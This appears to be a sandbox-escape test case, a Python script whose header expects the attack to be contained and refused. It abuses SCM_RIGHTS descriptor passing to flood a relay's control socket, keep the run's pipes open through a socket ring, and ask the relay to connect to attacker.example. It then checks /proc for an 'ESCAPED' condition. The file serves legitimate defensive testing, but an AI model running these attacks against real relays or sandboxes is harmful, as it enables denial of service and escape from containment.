# attack: descriptors travel along with messages: they fill up the relay's process or keep the run's pipes open
# expect: contained
# validator: refused
import array
import os
import socket
import stat


def control_sockets():
    """The socket by which connections are asked of the relay: a Unix socket that keeps messages apart."""
    for number in range(3, 256):
        try:
            if not stat.S_ISSOCK(os.fstat(number).st_mode):
                continue
        except OSError:
            continue
        found = socket.socket(fileno=os.dup(number))
        if found.type == socket.SOCK_SEQPACKET:
            yield found


def gift(to, descriptors, text=b'{"host": "attacker.example", "port": 443}'):
    to.sendmsg([text], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", descriptors))])


def flood():
    for control in control_sockets():
        for count in range(200):
            try:
                gift(control, [1] * 200)
                control.recv(4096)
            except OSError as error:
                print("after", count, error)
                return
        # Whether they were taken shows where /proc can be seen.
        names = os.listdir("/proc/@OWNER_PID@/fd")
        if len(names) > 1000:
            print("ESCAPED: the owner holds", len(names), "descriptors", flush=True)


def own_pipes():
    # In a ring of sockets that nobody can reach any more, with the run's own outputs in it.
    left, right = socket.socketpair()
    for end, other in ((left, right), (right, left)):
        end.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [1, 2, other.fileno()]))])
    print("the ring is made")


def through_a_stream():
    for port in (80, 443):
        with socket.create_connection(("api.stripe.com", port), 1) as stream:
            for _ in range(50):
                gift(stream, [1, 2], b"G")


def to_each_other():
    for control in control_sockets():
        gift(control, [control.fileno()] * 10)
        print(control.recv(4096)[:60])


# The arena sees whether the run ends in time and the next one works.
for attempt in (own_pipes, to_each_other, through_a_stream, flood):
    try:
        attempt()
    except Exception as error:
        print(attempt.__name__, type(error).__name__, error)
